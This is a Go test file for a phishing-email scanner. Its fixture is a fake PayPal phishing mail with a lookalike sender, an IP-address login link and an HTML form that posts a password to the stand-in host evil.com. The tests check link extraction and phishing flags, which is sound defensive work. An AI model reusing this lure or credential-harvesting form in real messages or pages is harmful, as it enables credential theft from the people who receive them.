package mailscan

import (
	"strings"
	"testing"

	"github.com/cipherlens/cipherlens/internal/detector"
	"github.com/cipherlens/cipherlens/internal/logging"
)

func rfc822(lines ...string) string {
	return strings.Join(lines, "\r\n")
}

var phishingMail = rfc822(
	`From: "PayPal Service" <service@paypa1-support.tk>`,
	`To: victim@example.com`,
	`Subject: Verify your account`,
	`MIME-Version: 1.0`,
	`Content-Type: multipart/alternative; boundary="XYZ"`,
	``,
	`--XYZ`,
	`Content-Type: text/plain; charset=utf-8`,
	``,
	`Visit http://192.168.1.1/paypal/login.php now, or read https://example.org/faq.`,
	`--XYZ`,
	`Content-Type: text/html; charset=utf-8`,
	``,
	`<html><body><a href="http://192.168.1.1/paypal/login.php">Login</a>`,
	`<a href="https://www.paypal.com/help">Help</a><a href="mailto:x@y.com">mail</a>`,
	`<form action="http://evil.com/collect"><input type="password" name="pw"></form></body></html>`,
	`--XYZ--`,
	``,
)

func newTestScanner(t *testing.T) *Scanner {
	t.Helper()
	det, err := detector.New(logging.NopLogger{})
	if err != nil {
		t.Fatalf("detector.New: %v", err)
	}
	s, err := NewScanner(det, logging.NopLogger{})
	if err != nil {
		t.Fatalf("NewScanner: %v", err)
	}
	return s
}

func TestParse_CollectsLinks(t *testing.T) {
	t.Parallel()
	msg, err := Parse(strings.NewReader(phishingMail))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if msg.Subject != "Verify your account" {
		t.Errorf("unexpected subject %q", msg.Subject)
	}
	if msg.SenderDomain != "paypa1-support.tk" {
		t.Errorf("unexpected sender domain %q", msg.SenderDomain)
	}
	want := []string{
		"http://192.168.1.1/paypal/login.php",
		"https://www.paypal.com/help",
		"http://evil.com/collect",
		"https://example.org/faq",
	}
	if len(msg.Links) != len(want) {
		t.Fatalf("expected links %v, got %v", want, msg.Links)
	}
	for i := range want {
		if msg.Links[i] != want[i] {
			t.Errorf("link %d: expected %s, got %s", i, want[i], msg.Links[i])
		}
	}
}

func TestScan_FlagsWorstLink(t *testing.T) {
	t.Parallel()
	rep, err := newTestScanner(t).Scan(strings.NewReader(phishingMail))
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if len(rep.Links) != 4 {
		t.Fatalf("expected 4 link results, got %d", len(rep.Links))
	}
	if rep.Worst == nil || rep.Worst.URL != "http://192.168.1.1/paypal/login.php" {
		t.Errorf("expected the ip link to be worst, got %+v", rep.Worst)
	}
	if !rep.IsPhishing {
		t.Errorf("expected message flagged as phishing")
	}
	if rep.Body == nil || rep.Body.Features[detector.FeatureHasPasswordField] != 1 {
		t.Errorf("expected body content analysis with a password field, got %+v", rep.Body)
	}
	if rep.SenderBrand == nil || rep.SenderBrand.Brand != "paypal" || rep.SenderBrand.Distance != 1 {
		t.Errorf("expected sender lookalike of paypal, got %+v", rep.SenderBrand)
	}
}

func TestScan_PlainTextOnly(t *testing.T) {
	t.Parallel()
	mail := rfc822(
		`From: friend@example.com`,
		`Subject: lunch`,
		`Content-Type: text/plain; charset=utf-8`,
		``,
		`See you at noon. Menu: https://www.example.com/menu`,
		``,
	)
	rep, err := newTestScanner(t).Scan(strings.NewReader(mail))
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if rep.Body != nil {
		t.Errorf("expected no body analysis without html")
	}
	if len(rep.Links) != 1 || rep.Links[0].URL != "https://www.example.com/menu" {
		t.Errorf("unexpected links %+v", rep.Links)
	}
	if rep.SenderBrand != nil {
		t.Errorf("unexpected sender brand %+v", rep.SenderBrand)
	}
}

func TestScan_NoLinks(t *testing.T) {
	t.Parallel()
	mail := rfc822(`From: a@b.example`, `Subject: hi`, ``, `nothing to see`, ``)
	rep, err := newTestScanner(t).Scan(strings.NewReader(mail))
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if rep.Worst != nil || rep.IsPhishing || len(rep.Links) != 0 {
		t.Errorf("expected an empty clean report, got %+v", rep)
	}
}

func TestScan_MaxLinks(t *testing.T) {
	t.Parallel()
	s := newTestScanner(t)
	s.SetMaxLinks(2)
	s.SetMaxLinks(0)

	rep, err := s.Scan(strings.NewReader(phishingMail))
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if len(rep.Links) != 2 || !rep.Truncated {
		t.Errorf("expected truncation to 2 links, got %d (truncated=%v)", len(rep.Links), rep.Truncated)
	}
}

func TestNewScanner_NilDetector(t *testing.T) {
	t.Parallel()
	if _, err := NewScanner(nil, nil); err == nil {
		t.Fatal("expected error for nil detector")
	}
}
